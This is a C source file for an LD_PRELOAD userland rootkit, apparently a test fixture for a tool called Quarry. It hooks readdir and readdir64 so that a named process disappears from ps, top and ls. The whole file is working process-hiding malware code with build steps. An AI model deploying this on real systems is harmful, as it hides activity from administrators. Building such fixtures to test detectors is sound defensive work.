/* A userland rootkit for Quarry's tests, in the style of libprocesshider:
 * loaded through /etc/ld.so.preload, it overrides readdir/readdir64 so that
 * dynamically linked programs (ps, top, ls) skip /proc entries of processes
 * whose name is HIDE (set at compile time: -DHIDE='"name"').
 * Build: cc -shared -fPIC -o hider.so hider.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef HIDE
#define HIDE "quarry-hidden"
#endif

static const char *hidden_name = HIDE;

static int is_proc_dir(DIR *d) {
    char link[64], path[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(d));
    ssize_t n = readlink(link, path, sizeof path - 1);
    if (n < 0) return 0;
    path[n] = 0;
    return strcmp(path, "/proc") == 0;
}

static int should_hide(DIR *d, const char *name) {
    if (name[0] < '0' || name[0] > '9' || !is_proc_dir(d)) return 0;
    char p[300], comm[64] = {0};
    snprintf(p, sizeof p, "/proc/%s/comm", name);
    FILE *f = fopen(p, "r");
    if (!f) return 0;
    if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
    fclose(f);
    comm[strcspn(comm, "\n")] = 0;
    return strcmp(comm, hidden_name) == 0;
}

struct dirent *readdir(DIR *d) {
    static struct dirent *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = real(d)) && should_hide(d, e->d_name)) {}
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    static struct dirent64 *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    while ((e = real(d)) && should_hide(d, e->d_name)) {}
    return e;
}
